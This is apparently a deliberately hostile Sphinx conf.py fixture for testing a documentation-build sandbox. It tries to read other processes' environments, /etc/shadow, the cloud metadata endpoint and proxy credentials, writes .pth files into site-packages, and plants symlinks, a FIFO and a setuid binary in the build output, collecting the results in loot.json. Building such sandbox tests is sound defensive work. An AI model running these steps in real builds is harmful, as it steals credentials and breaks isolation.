"""A conf.py that tries to get at all it should not, and publishes what it got. See test_raid.py."""

import base64
import json
import os
import shutil
import socket
import sys
import urllib.request
from pathlib import Path

HERE = Path(__file__).resolve().parent
facts = json.loads((HERE / "facts.json").read_text())
loot = {}


def attempt(name, act, *arguments):
    """Keep what `act` returns; where it is refused, the kind of refusal."""
    try:
        loot[name] = repr(act(*arguments))
    except Exception as error:
        loot[name] = f"refused: {type(error).__name__}"


def connect(host, port):
    with socket.create_connection((host, port), timeout=3) as connection:
        connection.sendall(b"GET / HTTP/1.0\r\n\r\n")
        return connection.recv(4096)


def fetch(url):
    """Through the proxy that the environment names."""
    with urllib.request.urlopen(url, timeout=5) as answer:
        return answer.read(4096)


def tunnel(target):
    """CONNECT through the proxy."""
    proxy = urllib.request.urlsplit(os.environ["HTTPS_PROXY"])
    user = base64.b64encode(f"{proxy.username}:{proxy.password}".encode()).decode()
    with socket.create_connection((proxy.hostname, proxy.port), timeout=5) as connection:
        head = f"CONNECT {target} HTTP/1.1\r\nHost: {target}\r\nProxy-Authorization: Basic {user}\r\n\r\n"
        connection.sendall(head.encode())
        answer = connection.recv(4096)
        if b" 200 " not in answer:
            raise PermissionError(answer)
        connection.sendall(b"GET / HTTP/1.0\r\n\r\n")
        return connection.recv(4096)


def write(path):
    Path(path).write_text("written by a build")
    return "written"


# -- reading

for path in facts["files"]:
    attempt(f"read {path}", lambda path: Path(path).read_bytes()[:4096], path)
for path in facts["folders"]:
    attempt(f"list {path}", lambda path: sorted(entry.name for entry in Path(path).rglob("*")), path)
for pid in facts["pids"]:
    for name in ("environ", "cmdline", "maps", "cwd/db.sqlite3", "root/etc/shadow"):
        attempt(f"read of {pid} {name}", lambda path: Path(path).read_bytes(), f"/proc/{pid}/{name}")
attempt("list /proc", lambda: [path.read_bytes() for path in Path("/proc").glob("[0-9]*/environ")])
loot["own environment"] = dict(os.environ)

# -- the network

attempt("connect to loopback", connect, "127.0.0.1", facts["port"])
attempt("connect to metadata", connect, "169.254.169.254", 80)
for url in facts["urls"]:
    attempt(f"fetch {url}", fetch, url)
for target in facts["targets"]:
    attempt(f"tunnel to {target}", tunnel, target)

# -- writing

site_packages = next(path for path in sys.path if path.endswith("site-packages"))
for folder in (*facts["folders"], site_packages, Path(sys.executable).parent, Path(sys.argv[0]).parent):
    attempt(f"write into {folder}", write, Path(folder) / "written.pth")

# -- the log

print("\x1b[31mred\x1b[0m \x1b]0;title\x07 \x9b2J")
print(f"the secret is {facts['secret']}, or {base64.b64encode(facts['secret'].encode()).decode()}")


def setup(app):
    app.connect("build-finished", leave_things_in_the_output)


def leave_things_in_the_output(app, error):
    output = Path(app.outdir)
    for number, path in enumerate((*facts["files"], *facts["folders"])):
        attempt(f"point to {path}", os.symlink, path, output / f"link-{number}.html")
        attempt(f"link to {path}", os.link, path, output / f"hard-{number}.html")
    attempt("point upwards", os.symlink, "../../../..", output / "up")
    attempt("make a pipe", os.mkfifo, output / "pipe.html")
    attempt("copy a program", shutil.copy, "/bin/true", output / "tool")
    attempt("set its user", os.chmod, output / "tool", 0o6755)
    (output / "loot.json").write_text(json.dumps(loot))


project = "Hostile"
extensions = []
html_theme = "basic"
